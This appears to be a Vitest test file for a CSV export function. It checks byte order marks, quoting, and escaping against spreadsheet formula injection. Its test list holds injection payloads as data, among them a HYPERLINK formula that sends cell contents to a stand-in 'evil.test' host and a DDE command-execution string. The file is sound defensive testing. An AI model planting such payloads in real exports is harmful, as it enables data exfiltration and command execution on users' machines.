import * as fc from 'fast-check';
import Papa from 'papaparse';
import { expect, it, test } from 'vitest';
import { toCsv, type CsvCell } from '#domain/csv.ts';
import { forAll } from '#tests/support/for-all.ts';

const MARK = '\u{feff}';

function read(text: string): string[][] {
  return Papa.parse<string[]>(text.slice(MARK.length)).data;
}

/** The only cell of a file with one cell. */
function cell(value: CsvCell): string | undefined {
  return read(toCsv(['Heading'], [[value]]))[1]?.[0];
}

it('toCsv starts with a byte order mark and ends lines with CRLF', () => {
  expect(toCsv(['A', 'B'], [['1', '2']])).toBe(`${MARK}A,B\r\n1,2`);
});

it('toCsv keeps every harmless text unchanged', () => {
  const harmless = fc.string({ unit: 'grapheme' }).map((text) => `a${text}`);
  forAll(fc.array(fc.tuple(harmless, harmless), { minLength: 1 }), (rows) => {
    expect(read(toCsv(['A', 'B'], rows))).toEqual([['A', 'B'], ...rows]);
  });
});

it('toCsv keeps quotes, commas and line breaks inside a cell', () => {
  expect(cell('say "no",\r\nthen go')).toBe('say "no",\r\nthen go');
});

it('toCsv writes numbers as numbers and null as an empty cell', () => {
  expect(toCsv(['A', 'B', 'C'], [[-5, null, true]])).toBe(`${MARK}A,B,C\r\n-5,,true`);
});

test.each([
  '=1+1',
  '=HYPERLINK("http://evil.test?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  '+27 82 555 0101',
  '-2+3+cmd|x',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u{a0}=1+1',
  '\u{feff}=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(A1)',
  '=1\n=2',
  '","=1+1',
])('a text that a spreadsheet would run is escaped: %j', (text) => {
  expect(cell(text)).toMatch(/^[^=+\-@\t\r\n\s＝＋－＠\u{feff}]/u);
  expect(cell(text)?.replace(/^'/u, '')).toBe(text);
});

it('a text that a spreadsheet would run is escaped in headings', () => {
  expect(read(toCsv(['=A1'], []))[0]).toEqual(["'=A1"]);
});

it('a text that a spreadsheet would run never starts a cell', () => {
  forAll(fc.array(fc.tuple(fc.string({ unit: 'binary', maxLength: 12 })), { maxLength: 20 }), (rows) => {
    const cells = read(toCsv(['A'], rows)).flat();
    expect(cells.filter((text) => /^[=+\-@\t\r]/u.test(text))).toEqual([]);
  });
});
